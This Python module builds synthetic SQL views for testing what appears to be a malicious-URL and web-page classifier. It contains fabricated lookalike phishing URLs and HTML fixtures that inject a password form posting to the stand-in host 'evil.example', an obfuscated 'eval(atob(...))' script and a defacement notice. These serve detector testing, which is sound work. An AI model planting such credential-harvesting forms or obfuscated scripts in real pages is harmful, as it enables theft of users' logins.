"""Views that both engines derive from the given tables: labelled URLs, pages with forms, crawl facts, probabilities.

Each text is plain SQL that Spark and DuckDB read alike; `{pages}` names the source table.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

URLS = """
SELECT page_id * 2 AS row_id, url,
       CASE WHEN url LIKE '%spam-farm%'   OR url LIKE '%ads-track%'  THEN 'phishing'
            WHEN url LIKE '%cheap-pills%' OR url LIKE '%free-bets%'  THEN 'malware'
            WHEN url LIKE '%adult-x%'     OR url LIKE '%casino-win%' THEN 'defacement'
            ELSE 'benign' END AS type
FROM {pages}
UNION ALL
SELECT page_id * 2 + 1 AS row_id,
       CASE page_id % 8
         WHEN 0 THEN concat('https://www.g0ogle.com/?hl=ko&p=', page_id)
         WHEN 1 THEN concat('http://download-update.example/v', page_id, '/setup.exe')
         WHEN 2 THEN concat('http://school-', page_id, '.example/hacked.html')
         WHEN 3 THEN concat('https://login.paypal.secure-', page_id, '.top/account/verify?next=login')
         WHEN 4 THEN concat('http://192.168.0.', page_id % 250, '/update/client.zip')
         WHEN 5 THEN concat('http://user@', regexp_extract(url, '^[a-z]+://([^/?#]*)', 1), ':8080/a;x=', page_id, '?q=1#frag')
         WHEN 6 THEN concat('https://', regexp_extract(url, '^[a-z]+://([^/?#]*)', 1), '/p%2541/b%20c+d%zz/', page_id)
         ELSE concat(regexp_extract(url, '^[a-z]+://([^/?#]*)', 1), '/q?a=1&a=2&b=&=3&id=', page_id)
       END AS url,
       CASE page_id % 8 WHEN 0 THEN 'phishing' WHEN 3 THEN 'phishing' WHEN 1 THEN 'malware'
                        WHEN 4 THEN 'malware' WHEN 2 THEN 'defacement' ELSE 'benign' END AS type
FROM {pages}
"""

HTML_PAGES = """
SELECT page_id, url,
       CASE page_id % 6
         WHEN 0 THEN replace(html, '</article>', '<form action="http://evil.example/p"><input type="password" name="p"><input name="u"></form></article>')
         WHEN 1 THEN replace(html, '</article>', '<iframe src="/x"></iframe><form><input name="q"></form></article>')
         WHEN 2 THEN replace(html, '</article>', '<script>eval(atob("eA=="));document.write("<form>")</script><script src="//cdn.example/x.js"></script></article>')
         WHEN 3 THEN replace(html, '</article>', '<p>Hacked by someone</p><a href="https://other.example/z">z</a></article>')
         WHEN 4 THEN replace(html, '</article>', '<!-- <form><input type="password"></form> --><p>please verify your account password</p></article>')
         ELSE html END AS html
FROM {pages}
"""

# Crawl facts per page: one page in eleven was not fetched, one in thirteen was not HTML.
CRAWL = """
SELECT page_id, url,
       page_id % 11 <> 3 AS fetched,
       CASE WHEN page_id % 11 <> 3 THEN 200 + 100 * (page_id % 2) END AS status_code,
       CASE WHEN page_id % 11 <> 3 THEN CASE WHEN page_id % 13 = 5 THEN 'application/pdf'
            WHEN page_id % 3 = 0 THEN 'text/HTML; charset=ISO-8859-1' ELSE 'text/html' END END AS content_type,
       CASE WHEN page_id % 11 <> 3 THEN CASE WHEN page_id % 7 = 1 THEN concat(url, '#moved') ELSE url END END AS final_url,
       CASE WHEN page_id % 11 = 3 THEN CASE WHEN page_id % 2 = 0 THEN 'http_error' ELSE 'dns_resolution_failed' END END AS error,
       page_id % 4 <> 0 AS ssl_checked,
       CASE WHEN page_id % 4 = 0 THEN CASE WHEN page_id % 8 = 0 THEN 'not_https' ELSE 'SSLError' END END AS ssl_error,
       CASE WHEN page_id % 4 <> 0 THEN (page_id * 37) % 90 - 5 END AS not_after_offset
FROM {pages}
"""

# Class probabilities and a specialist probability per URL, from row_id alone.
PROBABILITIES = """
SELECT row_id, url, type,
       CAST(w_b AS DOUBLE) / (w_b + w_d + w_m + w_p) AS p_benign,
       CAST(w_d AS DOUBLE) / (w_b + w_d + w_m + w_p) AS p_defacement,
       CAST(w_m AS DOUBLE) / (w_b + w_d + w_m + w_p) AS p_malware,
       CAST(w_p AS DOUBLE) / (w_b + w_d + w_m + w_p) AS p_phishing,
       CAST((row_id * 29) % 101 AS DOUBLE) / 100 AS t_prob
FROM (SELECT row_id, url, type,
             (row_id * 7) % 97 + 1 AS w_b, (row_id * 11) % 41 + 1 AS w_d,
             (row_id * 13) % 43 + 1 AS w_m, (row_id * 17) % 89 + 1 AS w_p
      FROM {urls}) AS weights
"""


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def urls(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(URLS, pages=table(spark, sf_dir, "pages").select("page_id", "url"))


def html_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(HTML_PAGES, pages=table(spark, sf_dir, "pages"))


def crawl(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(CRAWL, pages=table(spark, sf_dir, "pages").select("page_id", "url"))


def probabilities(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(PROBABILITIES, urls=urls(spark, sf_dir))


# Bodies as a crawler stores them: hexadecimal text of HTML in three charsets, some with broken bytes or cut characters.
BODIES = """
SELECT page_id, url, page_id % 11 <> 3 AS fetched,
       CASE page_id % 4 WHEN 0 THEN 'text/html' WHEN 1 THEN 'text/html; charset=ISO-8859-1'
                        WHEN 2 THEN 'text/html;Charset=utf-16le' ELSE 'text/html; charset=no-such' END AS content_type,
       CASE page_id % 4 WHEN 1 THEN '3C703EE9E83C2F703E' WHEN 2 THEN '3C0070003E00E9003DD800DE' ELSE '3C703EC3A9' END AS head,
       CASE page_id % 4 WHEN 1 THEN 'FF80' WHEN 2 THEN '00D86100' ELSE CASE page_id % 3 WHEN 0 THEN 'FF41E282' ELSE 'F09F9880' END
         END AS tail
FROM {pages}
"""


def bodies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Crawled bodies as binary: the page's own HTML between a head and a tail of odd bytes."""
    d = spark.sql(BODIES, pages=table(spark, sf_dir, "pages").select("page_id", "url"))
    d = d.join(table(spark, sf_dir, "pages").select("page_id", "html"), "page_id").withColumn("final_url", F.col("url"))
    wide = F.encode("html", "UTF-16LE")
    own = F.when(F.col("page_id") % 4 == 2, wide).otherwise(F.encode("html", "UTF-8"))
    return d.withColumn("body", F.concat(F.unhex("head"), own, F.unhex("tail"))).drop("html", "head", "tail")
